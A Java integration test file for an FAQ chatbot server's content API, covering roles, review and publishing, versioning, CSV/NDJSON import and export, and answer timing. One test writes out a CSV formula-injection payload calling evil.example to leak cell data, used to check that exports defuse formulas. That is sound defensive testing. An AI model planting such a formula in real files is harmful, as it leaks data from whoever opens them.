package dev.frontline.server.it;

import static dev.frontline.server.it.Kb.assertError;
import static dev.frontline.server.it.Kb.entry;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * CONTRACT section 3, end to end: writes by role, review, publishing, and the bot answering from
 * published content within one second.
 */
class FaqApiIT {
  private static final Duration ONE_SECOND = Duration.ofSeconds(1);
  private static final String ROAMING = "怎么开通国际漫游";

  private TestServer server;
  private Kb kb;
  private String admin;

  @BeforeEach
  void start() {
    server = TestServer.start(Map.of("FRONTLINE_DEMO", "0"));
    kb = new Kb(server);
    admin = server.admin();
  }

  @AfterEach
  void stop() {
    server.close();
  }

  private static Map<String, Object> roaming(String answer) {
    return entry(ROAMING, List.of("国际漫游如何开通", "出国怎么用手机"), answer, "漫游");
  }

  @Test
  void adminCreate_isPublished_andTheBotAnswersItWithinOneSecond() {
    JsonNode created = kb.create(admin, roaming("拨打10000开通国际漫游。"));
    assertEquals("published", created.get("status").asText());
    String id = created.get("id").asText();
    JsonNode reply = kb.awaitBot(ROAMING, ONE_SECOND, r -> Kb.answers(r, id), "answer from the new entry");
    assertEquals("拨打10000开通国际漫游。", reply.get("answer").asText());

    JsonNode got = server.http.get("/api/faq/" + id, admin).json();
    assertEquals(ROAMING, got.get("question").asText());
    assertEquals(List.of("国际漫游如何开通", "出国怎么用手机"), strings(got.get("similar")));
    assertEquals("漫游", got.get("category").asText());
    assertEquals(1, got.get("version").asInt());
    assertTrue(got.get("live").asBoolean());
  }

  @Test
  void editorWrite_isADraftTheBotDoesNotAnswer_untilAReviewerPublishesIt() {
    String editor = kb.user("ed", List.of("editor"));
    String reviewer = kb.user("rita", List.of("editor", "reviewer"));
    JsonNode created = kb.create(editor, roaming("拨打10000开通。"));
    assertEquals("draft", created.get("status").asText());
    String id = created.get("id").asText();
    kb.neverBot(ROAMING, Duration.ofMillis(1200), r -> id.equals(r.path("faqId").asText()), "know a draft");

    assertError(server.http.post("/api/faq/" + id + "/publish", null, editor), 403, "forbidden");
    Http.Res published = server.http.post("/api/faq/" + id + "/publish", null, reviewer);
    assertEquals(200, published.status(), published.body());
    assertEquals("published", published.json().get("status").asText());
    kb.awaitBot(ROAMING, ONE_SECOND, r -> Kb.answers(r, id), "answer once published");
    assertError(server.http.post("/api/faq/" + id + "/publish", null, reviewer), 409, "not_allowed_now");
  }

  @Test
  void editorCannotPublishWithReviewOn_butCanWithReviewOff() {
    String editor = kb.user("ed", List.of("editor"));
    String id = kb.create(editor, roaming("拨打10000。")).get("id").asText();
    assertError(server.http.post("/api/faq/" + id + "/publish", null, editor), 403, "forbidden");

    assertEquals(200, server.http.put("/api/settings", Map.of("faqReview", false), admin).status());
    Http.Res published = server.http.post("/api/faq/" + id + "/publish", null, editor);
    assertEquals(200, published.status(), published.body());
    kb.awaitBot(ROAMING, ONE_SECOND, r -> Kb.answers(r, id), "answer after the editor published");

    JsonNode direct = kb.create(editor, entry("宽带怎么报修", List.of(), "拨打10000报修。", "宽带"));
    assertEquals("published", direct.get("status").asText(), "review off: an editor's write is published at once");
  }

  @Test
  void supervisorAndAdmin_mayPublish_andTheListShowsWhetherReviewIsOn() {
    String editor = kb.user("ed", List.of("editor"));
    String supervisor = kb.user("sue", List.of("supervisor"));
    String id = kb.create(editor, roaming("拨打10000。")).get("id").asText();
    JsonNode list = server.http.get("/api/faq?status=draft", supervisor).json();
    assertTrue(list.get("review").asBoolean());
    assertEquals(id, list.get("entries").get(0).get("id").asText());
    assertEquals(200, server.http.post("/api/faq/" + id + "/publish", null, supervisor).status());
    assertError(server.http.post("/api/faq", roaming("x"), supervisor), 403, "forbidden");
  }

  @Test
  void publishedVersionStaysLive_whileANewerDraftIsUnderReview() {
    String editor = kb.user("ed", List.of("editor"));
    String reviewer = kb.user("rita", List.of("editor", "reviewer"));
    String id = kb.create(admin, roaming("旧答案：拨打10000。")).get("id").asText();
    kb.awaitBot(ROAMING, ONE_SECOND, r -> Kb.answers(r, id), "answer");

    Http.Res edited = server.http.put("/api/faq/" + id, Map.of("answer", "新答案：打开App开通。"), editor);
    assertEquals(200, edited.status(), edited.body());
    assertEquals("draft", edited.json().get("status").asText());
    assertEquals(2, edited.json().get("version").asInt());
    assertEquals(1, edited.json().get("publishedVersion").asInt());
    assertEquals(200, server.http.post("/api/faq/" + id + "/submit", null, editor).status());

    JsonNode got = server.http.get("/api/faq/" + id, editor).json();
    assertEquals("review", got.get("status").asText());
    assertEquals("新答案：打开App开通。", got.get("answer").asText());
    assertEquals("旧答案：拨打10000。", got.get("published").get("answer").asText());
    kb.neverBot(ROAMING, Duration.ofMillis(1200), r -> !"旧答案：拨打10000。".equals(r.path("answer").asText()),
        "answer other than the published version");

    assertEquals(200, server.http.post("/api/faq/" + id + "/publish", null, reviewer).status());
    kb.awaitBot(ROAMING, ONE_SECOND, r -> "新答案：打开App开通。".equals(r.path("answer").asText()), "answer anew");

    JsonNode versions = server.http.get("/api/faq/" + id + "/versions", editor).json().get("versions");
    assertEquals(2, versions.size());
    assertEquals("published", versions.get(0).get("status").asText());
    assertEquals("Agent ed", versions.get(0).get("author").get("name").asText());
    assertEquals("superseded", versions.get(1).get("status").asText());
    assertEquals("管理员", versions.get(1).get("author").get("name").asText());
    assertTrue(versions.get(0).get("createdAt").asLong() >= versions.get(1).get("createdAt").asLong());
  }

  @Test
  void rejectedReview_goesBackToDraft_withTheNote() {
    String editor = kb.user("ed", List.of("editor"));
    String reviewer = kb.user("rita", List.of("editor", "reviewer"));
    String id = kb.create(editor, roaming("拨打10000。")).get("id").asText();
    assertError(server.http.post("/api/faq/" + id + "/reject", Map.of("note", "no"), reviewer), 409, "not_allowed_now");
    assertEquals(200, server.http.post("/api/faq/" + id + "/submit", null, editor).status());
    Http.Res rejected = server.http.post("/api/faq/" + id + "/reject", Map.of("note", "请补充资费"), reviewer);
    assertEquals("draft", rejected.json().get("status").asText());
    assertEquals("请补充资费", server.http.get("/api/faq/" + id + "/versions", editor).json()
        .get("versions").get(0).get("note").asText());
  }

  @Test
  void delete_stopsAnswersWithinOneSecond() {
    String id = kb.create(admin, roaming("拨打10000。")).get("id").asText();
    kb.awaitBot(ROAMING, ONE_SECOND, r -> Kb.answers(r, id), "answer");
    Http.Res deleted = server.http.delete("/api/faq/" + id, admin);
    assertEquals(200, deleted.status(), deleted.body());
    assertEquals("deleted", deleted.json().get("status").asText());
    kb.awaitBot(ROAMING, ONE_SECOND, r -> !id.equals(r.path("faqId").asText()), "forget the deleted entry");
    assertError(server.http.get("/api/faq/" + id, admin), 404, "not_found");
  }

  @Test
  void editorsDeleteOfALiveEntry_waitsForReview_andArchiveStopsAnswers() {
    String editor = kb.user("ed", List.of("editor"));
    String id = kb.create(admin, roaming("拨打10000。")).get("id").asText();
    Http.Res pending = server.http.delete("/api/faq/" + id, editor);
    assertEquals("draft", pending.json().get("status").asText());
    assertTrue(pending.json().get("live").asBoolean());
    kb.awaitBot(ROAMING, ONE_SECOND, r -> Kb.answers(r, id), "still answer while the deletion waits");
    assertEquals(200, server.http.post("/api/faq/" + id + "/publish", null, admin).status());
    kb.awaitBot(ROAMING, ONE_SECOND, r -> !id.equals(r.path("faqId").asText()), "forget the deleted entry");

    String other = kb.create(admin, entry("宽带怎么报修", List.of(), "拨打10000报修。", "宽带")).get("id").asText();
    kb.awaitBot("宽带怎么报修", ONE_SECOND, r -> Kb.answers(r, other), "answer");
    Http.Res archived = server.http.post("/api/faq/" + other + "/archive", null, admin);
    assertEquals("archived", archived.json().get("status").asText());
    kb.awaitBot("宽带怎么报修", ONE_SECOND, r -> !other.equals(r.path("faqId").asText()), "forget the archived entry");
    assertEquals("archived", server.http.get("/api/faq/" + other, editor).json().get("status").asText());
  }

  @Test
  void import_keepsIds_replacesExistingOnes_andTheBotAnswersAtOnce() {
    String body = """
        {"id": "up-0001", "question": "什么是IC卡闪付？", "similar": ["银联IC卡闪付是什么"], "answer": "IC卡是集成电路卡。", "category": "闪付"}
        {"id": "up-0002", "question": "闪付限额是多少", "similar": [], "answer": "单笔1000元。", "category": "闪付"}
        """;
    Http.Res r = server.http.send("POST", "/api/faq/import", body, admin, "application/x-ndjson");
    assertEquals(200, r.status(), r.body());
    assertEquals(2, r.json().get("imported").asInt());
    assertEquals("闪付限额是多少", server.http.get("/api/faq/up-0002", admin).json().get("question").asText());
    kb.awaitBot("什么是IC卡闪付？", ONE_SECOND, x -> Kb.answers(x, "up-0001"), "answer an imported entry");

    String again = "{\"id\": \"up-0002\", \"question\": \"闪付限额是多少\", \"answer\": \"单笔2000元。\"}\n";
    assertEquals(200, server.http.send("POST", "/api/faq/import", again, admin, "application/x-ndjson").status());
    JsonNode got = server.http.get("/api/faq/up-0002", admin).json();
    assertEquals(2, got.get("version").asInt());
    kb.awaitBot("闪付限额是多少", ONE_SECOND, x -> "单笔2000元。".equals(x.path("answer").asText()), "answer anew");
  }

  @Test
  void badImportLine_is400NamingTheLine_andNothingIsImported() {
    String body = "{\"id\": \"ok-1\", \"question\": \"q1\", \"answer\": \"a1\"}\n"
        + "{\"id\": \"ok-2\", \"question\": \"q2\", \"answer\": \"a2\"}\n"
        + "{\"id\": \"bad\", \"answer\": \"no question\"}\n";
    Http.Res r = server.http.send("POST", "/api/faq/import", body, admin, "application/x-ndjson");
    assertError(r, 400, "invalid_field");
    assertTrue(r.json().get("error").get("message").asText().contains("line 3"), r.body());
    assertError(server.http.get("/api/faq/ok-1", admin), 404, "not_found");
    assertEquals(0, server.http.get("/api/faq", admin).json().get("total").asInt());

    Http.Res notJson = server.http.send("POST", "/api/faq/import", "{\"id\":\"a\",\"question\":\"q\",\"answer\":\"a\"}\n{oops",
        admin, "application/x-ndjson");
    assertError(notJson, 400, "invalid_field");
    assertTrue(notJson.json().get("error").get("message").asText().contains("line 2"), notJson.body());
  }

  @Test
  void editorImport_withReviewOn_landsAsDrafts() {
    String editor = kb.user("ed", List.of("editor"));
    String body = "{\"id\": \"d-1\", \"question\": \"怎么查询积分\", \"answer\": \"发送JF到10001。\"}\n";
    assertEquals(200, server.http.send("POST", "/api/faq/import", body, editor, "application/x-ndjson").status());
    assertEquals("draft", server.http.get("/api/faq/d-1", editor).json().get("status").asText());
    kb.neverBot("怎么查询积分", Duration.ofMillis(1200), x -> "d-1".equals(x.path("faqId").asText()), "know a draft");
  }

  @Test
  void csvExport_defusesFormulas_andItsImportGivesTheTextBack() {
    String formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点我\")";
    Http.Res created = server.http.post("/api/faq", Map.of("question", formula, "similar", List.of("@SUM(1+1)"),
        "answer", "-2+3 是多少", "category", "+cat"), admin);
    assertEquals(201, created.status(), created.body());
    String id = created.json().get("id").asText();

    String csv = server.http.get("/api/faq/export?format=csv", admin).body();
    String row = List.of(csv.split("\r\n")).stream().filter(l -> l.startsWith(id + ",")).findFirst().orElseThrow();
    assertTrue(row.contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"点我\"\")\","), row);
    assertTrue(row.contains(",'@SUM(1+1),'-2+3 是多少,'+cat"), row);
    for (String cell : row.split(",")) {
      assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0, "a cell starts a formula: " + row);
    }

    assertEquals(200, server.http.send("POST", "/api/faq/import", csv, admin, "text/csv").status());
    JsonNode back = server.http.get("/api/faq/" + id, admin).json();
    assertEquals(formula, back.get("question").asText());
    assertEquals("-2+3 是多少", back.get("answer").asText());
    assertEquals("+cat", back.get("category").asText());
  }

  @Test
  void csvWithBom_roundTrips() {
    String csv = "\uFEFFid,question,similar,answer,category\r\n"
        + "tel-001,怎么查询话费余额？,查话费|我还有多少话费,\"发送\"\"CXHF\"\"到10001，\r\n或在App查看。\",话费\r\n"
        + "tel-002,\"充值, 在线怎么充？\",,打开App充值。,充值\r\n";
    Http.Res r = server.http.send("POST", "/api/faq/import?format=csv", csv, admin, "text/csv");
    assertEquals(200, r.status(), r.body());
    assertEquals(2, r.json().get("imported").asInt());
    JsonNode one = server.http.get("/api/faq/tel-001", admin).json();
    assertEquals(List.of("查话费", "我还有多少话费"), strings(one.get("similar")));
    assertEquals("发送\"CXHF\"到10001，\r\n或在App查看。", one.get("answer").asText());

    Http.Res export = server.http.get("/api/faq/export?format=csv", admin);
    assertEquals(200, export.status());
    assertTrue(export.contentType().startsWith("text/csv"), export.contentType());
    assertTrue(export.body().startsWith("\uFEFFid,question,similar,answer,category"), export.body());
    assertTrue(export.body().contains("查话费|我还有多少话费"), export.body());

    Http.Res reimport = server.http.send("POST", "/api/faq/import", export.body(), admin, "text/csv; charset=utf-8");
    assertEquals(200, reimport.status(), reimport.body());
    assertEquals(export.body(), server.http.get("/api/faq/export?format=csv", admin).body(), "export is stable");

    Http.Res jsonl = server.http.get("/api/faq/export?format=jsonl", admin);
    assertEquals(2, jsonl.body().strip().split("\n").length);
    assertTrue(jsonl.body().contains("\"id\":\"tel-002\",\"question\":\"充值, 在线怎么充？\""), jsonl.body());
  }

  @Test
  void roles_agentsAndAnonymousCannotWrite_visitorsAskTheBotWithoutLogin() {
    String agent = kb.user("ann", List.of("agent"));
    assertError(server.http.post("/api/faq", roaming("x"), agent), 403, "forbidden");
    assertError(server.http.get("/api/faq", agent), 403, "forbidden");
    assertError(server.http.post("/api/faq", roaming("x"), null), 401, "unauthorized");
    assertError(server.http.send("POST", "/api/faq/import", "{}", agent, "application/x-ndjson"), 403, "forbidden");
    String id = kb.create(admin, roaming("拨打10000。")).get("id").asText();
    assertError(server.http.delete("/api/faq/" + id, agent), 403, "forbidden");
    assertEquals(200, server.http.get("/api/bot/answer?q=" + Http.enc(ROAMING), null).status());
  }

  @Test
  void accountApi_acceptsTheReviewerRole() {
    Http.Res u = server.http.post("/api/users", Map.of("username", "rev", "password", "secret-rev", "roles",
        List.of("editor", "reviewer")), admin);
    assertEquals(201, u.status(), u.body());
    JsonNode me = server.http.get("/api/me", server.login("rev", "secret-rev")).json();
    assertEquals(List.of("editor", "reviewer"), strings(me.get("roles")));
  }

  @Test
  void badWrites_getPreciseErrors() {
    assertError(server.http.post("/api/faq", Map.of("answer", "a"), admin), 400, "missing_field");
    assertError(server.http.post("/api/faq", Map.of("question", "q", "answer", ""), admin), 400, "invalid_field");
    assertError(server.http.post("/api/faq", Map.of("question", "q", "answer", "a", "id", "export"), admin), 400,
        "invalid_field");
    assertError(server.http.post("/api/faq", Map.of("question", "q", "answer", "a", "imageUrl", "javascript:x"), admin),
        400, "invalid_field");
    kb.create(admin, Map.of("id", "fixed-1", "question", "q", "answer", "a"));
    assertError(server.http.post("/api/faq", Map.of("id", "fixed-1", "question", "q", "answer", "a"), admin), 409,
        "conflict");
    assertError(server.http.put("/api/faq/fixed-1", Map.of("answer", "b", "baseVersion", 7), admin), 409, "conflict");
    assertError(server.http.put("/api/faq/nope", Map.of("answer", "b"), admin), 404, "not_found");
    assertError(server.http.get("/api/faq?status=weird", admin), 400, "invalid_field");
  }

  @Test
  void list_filtersByStatusCategoryAndText_newestFirst() {
    String editor = kb.user("ed", List.of("editor"));
    kb.create(admin, entry("怎么查询话费", List.of(), "发送CXHF。", "话费"));
    kb.create(admin, entry("宽带怎么报修", List.of("网断了"), "拨打10000。", "宽带"));
    kb.create(editor, entry("怎么办理宽带", List.of(), "去营业厅。", "宽带"));
    assertEquals(3, server.http.get("/api/faq", editor).json().get("total").asInt());
    JsonNode broadband = server.http.get("/api/faq?category=" + Http.enc("宽带"), editor).json();
    assertEquals(2, broadband.get("total").asInt());
    assertEquals("怎么办理宽带", broadband.get("entries").get(0).get("question").asText());
    assertEquals(1, server.http.get("/api/faq?status=draft", editor).json().get("total").asInt());
    assertEquals(2, server.http.get("/api/faq?status=live", editor).json().get("total").asInt());
    assertEquals("宽带怎么报修", server.http.get("/api/faq?q=" + Http.enc("网断"), editor).json()
        .get("entries").get(0).get("question").asText());
    JsonNode page = server.http.get("/api/faq?size=2&page=2", editor).json();
    assertEquals(1, page.get("entries").size());
    assertEquals(3, page.get("total").asInt());
  }

  @Test
  void preview_ranksTestQuestionsAgainstTheCandidateAsTheBotWould() {
    kb.create(admin, entry("宽带怎么报修", List.of(), "拨打10000。", "宽带"));
    Map<String, Object> body = Map.of("entry", roaming("拨打10000开通。"), "questions",
        List.of(ROAMING, "宽带怎么报修", "今天天气怎么样"));
    Http.Res r = server.http.post("/api/faq/preview", body, kb.user("ed", List.of("editor")));
    assertEquals(200, r.status(), r.body());
    JsonNode results = r.json().get("results");
    assertEquals("answer", results.get(0).get("decision").asText());
    assertTrue(results.get(0).get("candidate").asBoolean());
    assertFalse(results.get(1).get("candidate").asBoolean());
    assertEquals("handoff", results.get(2).get("decision").asText());
    kb.neverBot(ROAMING, Duration.ofMillis(300), x -> "answer".equals(x.path("decision").asText()),
        "answer from a preview");
  }

  @Test
  void validityWindow_andChannels_decideWhatIsAnswered() {
    long day = 86_400_000L;
    Map<String, Object> later = new java.util.HashMap<>(roaming("明天起拨打10000。"));
    later.put("validFrom", System.currentTimeMillis() + day);
    String id = kb.create(admin, later).get("id").asText();
    kb.neverBot(ROAMING, Duration.ofMillis(1200), x -> id.equals(x.path("faqId").asText()), "answer before validFrom");
    assertEquals(200, server.http.put("/api/faq/" + id, Map.of("validFrom", System.currentTimeMillis() - day), admin)
        .status());
    kb.awaitBot(ROAMING, ONE_SECOND, x -> Kb.answers(x, id), "answer once valid");
  }

  private static List<String> strings(JsonNode array) {
    List<String> out = new ArrayList<>();
    array.forEach(n -> out.add(n.asText()));
    return out;
  }
}
